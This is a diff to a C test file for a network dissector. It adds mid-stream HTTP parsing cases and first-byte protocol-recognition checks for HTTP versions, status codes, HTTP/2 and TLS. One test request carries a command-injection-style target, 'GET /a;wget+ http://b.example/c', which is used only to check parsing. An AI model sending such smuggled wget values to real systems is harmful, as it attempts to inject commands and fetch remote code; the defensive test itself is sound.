@@ -328,6 +328,48 @@ static const struct script scripts[] = {
 		    "request c0-28 version=1.1 request_type=GET request_domain=a request_resource=/1 endpoint=/{id}\n"
 		    "response s14-53 version=1.1 code=200 status=ok\n",
     },
+    {
+	.name = "from the middle: the first line at hand is a request's, whatever its target",
+	.steps =
+	    {
+		CLIENT("GET . HTTP/1.0\r\n"
+		       "A: b\r\n"
+		       "\r\n"
+		       "GET . HTTP/1.0\r\n"
+		       "\r\n"),
+		SERVER("HTTP/1.0 400 Bad Request\r\n"
+		       "Content-Length: 0\r\n"
+		       "\r\n"),
+		CLOSE,
+	    },
+	.midstream = true,
+	.no_gaps = true,
+	.expected = "is http\n"
+		    "request c0-24 version=1.0 request_type=GET request_resource=. endpoint=.\n"
+		    "request c24-42 version=1.0 request_type=GET request_resource=. endpoint=.\n"
+		    "response s0-47 version=1.0 response_exception=\"Bad Request\" code=400 status=client_error\n",
+    },
+    {
+	.name = "from the middle: a target with blanks, behind a line that is none of HTTP's",
+	.steps =
+	    {
+		CLIENT("tail\n"
+		       "GET /a;wget+ http://b.example/c HTTP/1.1\r\n"
+		       "Host: a\r\n"
+		       "\r\n"),
+		SERVER("tail\n"
+		       "HTTP/1.1 200 OK\r\n"
+		       "Content-Length: 0\r\n"
+		       "\r\n"),
+		CLOSE,
+	    },
+	.midstream = true,
+	.dissector = &dissector_http,
+	.no_gaps = true,
+	.expected = "request c5-58 version=1.1 request_type=GET request_domain=a "
+		    "request_resource=\"/a;wget+ http://b.example/c\" endpoint=\"/a;wget+ http://b.example/c\"\n"
+		    "response s5-43 version=1.1 code=200 status=ok\n",
+    },
     /* no_gaps: without its beginning, FORGET is GET */
     {
 	.name = "from the middle: what only looks like a start line",
@@ -588,14 +630,20 @@ static const struct first_bytes openings[] = {
     FIRST("unsure", "GET"), FIRST("unsure", "GET /short"),
     FIRST("unsure", "FROB /a-path-that-is-so-long-that-its-line-end-does-not-come-with-the-first-bytes"),
     FIRST("http server", "HTTP/1.1 200 OK"), FIRST("http server", "HTTP/1.0 404\r\n"), FIRST("unsure", "HTTP/1.1 200"),
+    /* any digit, a point, any digit (RFC 9112, 2.3); blanks (4); codes that no class knows (RFC 9110, 15) */
+    FIRST("http client", "GET /version HTTP/3.7\r\n"), FIRST("http client", "GET / HTTP/2.0\r\n"),
+    FIRST("http client", "GET / HTTP/0.9\r\n"), FIRST("http server", "HTTP/2.0 200 OK\r\n"),
+    FIRST("http server", "HTTP/0.9 200\r\n"), FIRST("http server", "HTTP/1.1 099 OK\r\n"),
+    FIRST("http server", "HTTP/1.1 \t 200 OK\r\n"), FIRST("unsure", "HTTP/2.0  200"), FIRST("unsure", "HTTP/3."),
     FIRST("unsure", "H"), FIRST("http2 client", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
     FIRST("unsure", "PRI * HTTP/2.0\r\n\r\nS"), FIRST("tls client", "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"),
     FIRST("tls server", "\x16\x03\x03\x00\x5a\x02\x00\x00\x56\x03\x03"),
     FIRST("tls client", "\x80\x2e\x01\x03\x01\x00\x15\x00\x00\x00\x10"), FIRST("unsure", "\x16\x03\x01\x02"),
     /* not HTTP, however alike */
-    FIRST("none", "HTTP/2 200\r\n\r\n"), FIRST("none", "HTTP/1.1 20x OK\r\n"), FIRST("none", "HTTP/1.1 099 OK\r\n"),
+    FIRST("none", "HTTP/2 200\r\n\r\n"), FIRST("none", "HTTP/1.1 20x OK\r\n"), FIRST("none", "HTTP/1.1 2000 OK\r\n"),
     FIRST("none", "HTTP/1.1200 OK\r\n"), FIRST("none", "GET /\r\n"), /* HTTP/0.9 */
-    FIRST("none", "GET / HTTP/2.0\r\n"), FIRST("none", "GET / HTTP/1.12\r\n"), FIRST("none", "GET /HTTP/1.1\r\n"),
+    FIRST("none", "PRI * HTTP/2.0\r\nHost: a\r\n"), FIRST("none", "GET / HTTP/1.12\r\n"),
+    FIRST("none", "GET / HTTP/3\r\n"), FIRST("none", "HTTP/1.01 200 OK\r\n"), FIRST("none", "HTTP/11 200 OK\r\n"), FIRST("none", "GET /HTTP/1.1\r\n"),
     FIRST("none", "ICY 200 OK\r\n"), FIRST("none", "OPTIONS rtsp://a.example/media RTSP/1.0\r\nCSeq: 1\r\n"),
     FIRST("none", "RTSP/1.0 200 OK\r\n"), FIRST("none", "OPTIONS sip:a@b.example SIP/2.0\r\n"),
     FIRST("none", "OPTIONS sip:somebody.with.a.very.long.name@somewhere.far.away.example;transport=tcp"),
@@ -678,7 +726,7 @@ static void tls_midstream(void **state)
 				  "\x17\x03\x03\x00\x10"
 				  "x";
 	assert_string_equal(harness_probe(two, sizeof two - 1, true), "tls unknown");
-	assert_string_equal(harness_probe(two, 7, true), "none");
+	assert_null(strchr(harness_probe(two, 7, true), ' ')); /* not certain */
 	assert_string_equal(harness_probe(two, sizeof two - 1, false), "none");
 }
 
